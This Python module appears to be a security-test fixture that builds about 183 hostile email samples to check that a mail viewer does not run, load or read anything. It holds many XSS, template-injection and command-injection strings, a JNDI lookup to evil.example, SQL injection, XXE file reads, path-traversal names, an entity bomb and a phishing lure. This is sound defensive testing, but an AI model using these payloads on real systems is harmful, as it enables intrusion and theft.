"""Mails made to run, load, read or break something on the page that shows them.

``mails(canary)`` is always the same list. Whatever runs sets ``window.__ran``; whatever loads asks
``evil.example``; whatever reads is after ``canary``, a file that nobody may open; whatever is worked
out instead of shown gives 982007569 (31337 × 31337).
"""

import base64
from dataclasses import dataclass, field
from pathlib import Path

from bench.hostile import MAILS

PRODUCT = "982007569"
RUN = "window.__ran=1"
FAR = "http://evil.example/"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={FAR}a.js></SCRIPT>",
    f"</mark></p></main><script>{RUN}</script>",
    f"</textarea></form><script>{RUN}</script>",
    f"</title></head><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script\n>",
    f"<script type=module>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><img src=x onerror={RUN}>",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><?xml-stylesheet href='{FAR}a.xsl'?><x/>",
    f"<style>@import '{FAR}a.css';body{{display:none}}</style>",
    f"<style>*{{background:url({FAR}b.png)}}</style>",
    f"<p style='background:url({FAR}c.png);width:expression({RUN})'>x</p>",
    f"<div style=\"behavior:url('{FAR}x.htc');-moz-binding:url('{FAR}x.xml')\">x</div>",
    f"<link rel=stylesheet href={FAR}d.css>",
    f"<link rel=preload as=image href={FAR}e.png><link rel=dns-prefetch href={FAR}>",
    f"<iframe src={FAR}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<frameset><frame src={FAR}></frameset>",
    f"<object data={FAR}a.swf type=application/x-shockwave-flash></object>",
    f"<embed src={FAR}a.svg type=image/svg+xml>",
    f"<applet code=a archive={FAR}a.jar></applet>",
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></table></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=refresh content='0;javascript:{RUN}'>",
    f"<base href={FAR}>",
    f"<form action={FAR} id=f><input name=card autofocus onfocus={RUN}></form><button form=f>x</button>",
    f"<button formaction='javascript:{RUN}'>x</button><input type=image src={FAR}f.png>",
    f"<img src=x onerror={RUN}>",
    f"<img src={FAR}g.png srcset='{FAR}h.png 2x' lowsrc={FAR}i.png dynsrc={FAR}j.avi>",
    f"<picture><source srcset={FAR}k.webp><img src={FAR}l.png></picture>",
    f"<video poster={FAR}m.png autoplay><source src={FAR}n.mp4 onerror={RUN}></video>",
    f"<audio src={FAR}o.mp3 autoplay onerror={RUN}></audio><track src={FAR}p.vtt>",
    f"<body onload={RUN} background={FAR}q.png><table background={FAR}r.png></table>",
    f"<details open ontoggle={RUN}>x</details><marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}' onmouseover={RUN} ping={FAR}>click</a>",
    f"<a href='java\tscript&colon;{RUN}'>a</a><a href=' &#1;javascript:{RUN}'>b</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>a</a><a href='vbscript:{RUN}'>b</a>",
    "<a href='file:///etc/passwd'>a</a><a href='//evil.example/'>b</a><a href='\\\\evil.example'>c</a>",
    f"<a target=_top rel=opener href='{FAR}?{RUN}'>x</a><area href={FAR}>",
    f'"><script>{RUN}</script>',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    f"` onerror={RUN} <img src=`x`onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template><slot onslotchange={RUN}></slot>",
    f"<dialog open><form method=dialog><button onclick={RUN}>x</button></form></dialog>",
    f"<portal src={FAR}></portal><fencedframe src={FAR}></fencedframe>",
    f"<input type=hidden accesskey=x onclick={RUN}><select autofocus onfocus={RUN}>",
    f"<table><tr><td>{'<b>' * 300}<img src=x onerror={RUN}>",
    f"<xmp></xmp><plaintext></plaintext><img src=x onerror={RUN}>",
    f"<isindex action=javascript:{RUN} type=image><keygen autofocus onfocus={RUN}>",
)  # fmt: skip
TEMPLATES = (
    "{{31337*31337}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ settings.database }}{{ self.__init__.__globals__ }}{{ config }}",
    "${31337*31337} #{31337*31337} *{31337*31337} @(31337*31337)",
    "<%= 31337*31337 %><? echo 31337*31337; ?>",
    "{0.__class__.__init__.__globals__} %(x)s %n%n%s {settings}",
    "$(cat /etc/passwd) `id` | id ; id && id",
    "${jndi:ldap://evil.example/a} <!--#exec cmd='id' -->",
    "' OR 1=1; DROP TABLE incidents; --",
    "#set($x=31337*31337)$x [[${31337*31337}]]",
)
FILE_NAMES = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "a.pdf\0.exe",
    "a\r\nX-Injected: yes\r\n\r\n<script>window.__ran=1</script>",
    "\u202egpj.exe",
    f'"><img src=x onerror={RUN}>.png',
    "CON",
    "a" * 5_000 + ".txt",
    "{{31337*31337}}.txt",
    "=?utf-8?b?Li4vLi4vZXRjL3Bhc3N3ZA==?=",
    "file:///etc/passwd",
    "|id",
)  # fmt: skip
INVISIBLE = (
    "\u202e<script>window.__ran=1</script>\u202c",
    "\u2066\u2067\u2068\u202a\u202b\u202d" * 50 + "end",
    "パ\u200bス\u200cワ\u200dー\ufeffド\u2060",
    "".join(chr(0xE0000 + ord(c)) for c in f"<script>{RUN}</script>"),
    "\x1b]0;title\x07\x1b[2J\x9b31m \x08\x08\x7f",
    "Z" + "\u0335\u0489" * 20_000,
    "\u2028\u2029\x85\x0b\x0c\x1c\x1d\x1e",
    "\ufff9a\ufffab\ufffb \U000f0000 \ufdd0 \uffff",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """Something to hand in: ``kind`` says what it claims to be."""

    name: str
    kind: str
    content: bytes = field(repr=False)

    @property
    def as_file(self) -> bool:
        """Is it chosen as a file, not pasted?"""
        return self.kind in {"mail", "table"} or self.content.startswith((b"%PDF", b"<!doctype"))


def mails(canary: Path) -> list[Hostile]:
    """Every mail and pasted text, 183 of them."""
    after = (
        f"<img src='file://{canary}'><object data='file://{canary}'></object>",
        f'<!DOCTYPE x [<!ENTITY c SYSTEM "file://{canary}">]><svg><text>&c;</text></svg>',
        f"<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file://{canary}' parse='text'/></x>",
        f"{{% include '{canary}' %}}{{{{ open('{canary}').read() }}}}<!--#include file='{canary}'-->",
    )
    found = [_numbered("html", "mail", at, _html(one)) for at, one in enumerate(MARKUP)]
    found += [_numbered("file", "mail", at, _html(one)) for at, one in enumerate(after)]
    found += [_numbered("pasted", "text", at, one) for at, one in enumerate(MARKUP[::3])]
    found += [_numbered("braces", "text", at, one) for at, one in enumerate(TEMPLATES)]
    found += [_numbered("unseen", "text", at, one) for at, one in enumerate(INVISIBLE)]
    found += [_numbered("header", "mail", at, one) for at, one in enumerate(_headers())]
    names = (*FILE_NAMES, str(canary), f"../../../../../..{canary}")
    found += [_numbered("name", "mail", at, _attached(one)) for at, one in enumerate(names)]
    found += [_numbered("letters", "mail", at, one) for at, one in enumerate(_encoded())]
    found += [_numbered("shape", "mail", at, one) for at, one in enumerate(_shapes(canary))]
    found += [Hostile(f"heavy {name}", "mail", make()) for name, make in MAILS.items()]
    return found


def _numbered(family: str, kind: str, number: int, content: str | bytes) -> Hostile:
    data = content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
    return Hostile(f"{family} {number}", kind, data)


HEAD = b"From: a@example.com\nTo: b@example.jp\nSubject: test\nMIME-Version: 1.0\n"


def _html(body: str) -> bytes:
    lure = "<p>パスワードと暗証番号を24時間以内に入力してください。カードの利用を停止します。</p>"
    text = f"{lure}{body}{lure}<a href='{FAR}login'>https://www.example.co.jp/</a>"
    return HEAD + b"Content-Type: text/html; charset=utf-8\n\n" + text.encode()


def _headers() -> list[bytes]:
    words = (*MARKUP[0::15], TEMPLATES[0], INVISIBLE[0])
    named = [
        b"%s: %s\n" % (name, value)
        for name in (b"Subject", b"Reply-To")
        for value in (_word(one) for one in words)
    ]
    return [
        *(HEAD.replace(b"Subject: test\n", b"") + one + b"\nhello\n" for one in named),
        b'From: "<script>window.__ran=1</script>" <"><img src=x>"@example.com>\n' + HEAD[20:] + b"\nx",
        HEAD + b"X-A: b\r\r\nX-Injected: yes\r\n\r\n<script>window.__ran=1</script>",
        HEAD + b"List-Unsubscribe: <javascript:window.__ran=1>\nMessage-ID: <{{7*7}}@x>\n\nx",
        HEAD + b"Date: " + b"9" * 100_000 + b"\nReceived: from [::::] by ((((((\n\nx",
        b"\n".join(b"X-%d: %d" % (n, n) for n in range(20_000)) + b"\n" + HEAD + b"\nx",
    ]  # fmt: skip


def _word(text: str) -> bytes:
    return b"=?utf-8?b?" + base64.b64encode(text.encode("utf-8", "surrogatepass")) + b"?="


def _attached(name: str) -> bytes:
    quoted = name.encode().replace(b'"', b'\\"')
    return (
        HEAD
        + b"Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nhello\n"
        + b'--b\nContent-Type: application/octet-stream; name="' + quoted + b'"\n'
        + b'Content-Disposition: attachment; filename="' + quoted + b'"\n\ncontent\n--b--\n'
    )  # fmt: skip


def _encoded() -> list[bytes]:
    script = f"<script>{RUN}</script>"
    typed = b"Content-Type: text/html; charset=%s\nContent-Transfer-Encoding: %s\n\n"
    utf7 = b"+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-"
    bodies = (
        (b"utf-7", b"7bit", utf7),
        (b"x-unknown", b"8bit", utf7),
        (b"utf-16", b"base64", base64.b64encode(script.encode("utf-16"))),
        (b"utf-32", b"base64", base64.b64encode(script.encode("utf-32"))),
        (b"utf-8", b"8bit", b"\xc0\xbcscript\xc0\xbe\xed\xa0\x80\xff\xfe\xf8\x88\x80\x80\x80"),
        (b"iso-2022-jp", b"7bit", b"\x1b$B<script>window.__ran=1</script>\x1b(B\x1b$)C\x1b(I"),
        (b"iso-2022-jp", b"7bit", b'<a title="\x1b$B"><script>window.__ran=1</script>\x1b(B">'),
        (b"shift_jis", b"8bit", b'<img alt="\x81" src=x onerror=window.__ran=1 x="\x83\x5c">'),
        (b"euc-jp", b"8bit", b"\x8f\xff<\xa4script>window.__ran=1</script>\xff"),
        (b"hz-gb-2312", b"7bit", b"~{<script>window.__ran=1</script>~}"),
        (b"../../etc/passwd", b"x-uuencode", b"begin 644 a\n#86)C\n`\nend\n"),
        (b"utf-8", b"base64", b"PHNjcmlwdD4=====%%%%" * 50),
        (b"utf-8", b"quoted-printable", b"=3Cscript=3Ewindow.__ran=3D1=3C/script=3E=\n==="),
        (b"rot13", b"binary", b"\0\0\0<script>window.__ran=1</script>\0"),
        (b"zlib_codec", b"8bit", b"\x78\x9c" + b"\xff" * 1_000),
    )
    return [HEAD + typed % (charset, how) + body for charset, how, body in bodies]


def _shapes(canary: Path) -> list[bytes]:
    deep = b"".join(b"Content-Type: message/rfc822\n\n" for _ in range(1_000))
    itself = HEAD + b"Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n"
    for _ in range(12):  # a mail in a mail in a mail, encoded each time
        itself = HEAD + b"Content-Type: message/rfc822\n\n" + itself + base64.b64encode(itself)
    script = f"<script>{RUN}</script>".encode()
    entity = b"".join(b'<!ENTITY e%d "&e%d;&e%d;">' % (n, n - 1, n - 1) for n in range(1, 30))
    svg = b"Content-Type: image/svg+xml\n\n<!DOCTYPE s [" + entity + b"]><svg>&e29;" + script
    outside = b'Content-Type: message/external-body; access-type=local-file; name="%s"\n\n'
    return [
        HEAD + deep + HEAD + b"\nhello",
        itself,
        HEAD + svg,
        HEAD + outside % str(canary).encode() + b"Content-Type: text/plain\n\n",
        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n" + script,
        b"GIF89a/*\x01\x00*/=1;" + script,
        b"\x89PNG\r\n\x1a\n" + script * 20,
        b"PK\x03\x04" + b"\0" * 26 + script,
        b"\x1f\x8b\x08" + b"\0" * 500,
        b"\0" * 10_000 + script,
        script * 5_000,
        b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\n\n--\n--\n----\n" + script,
        HEAD + b"Content-Type: multipart/mixed; boundary=" + b"b" * 70_000 + b"\n\n" + script,
        b"From: <script>window.__ran=1</script>\n" * 3_000 + b"\n" + script,
    ]
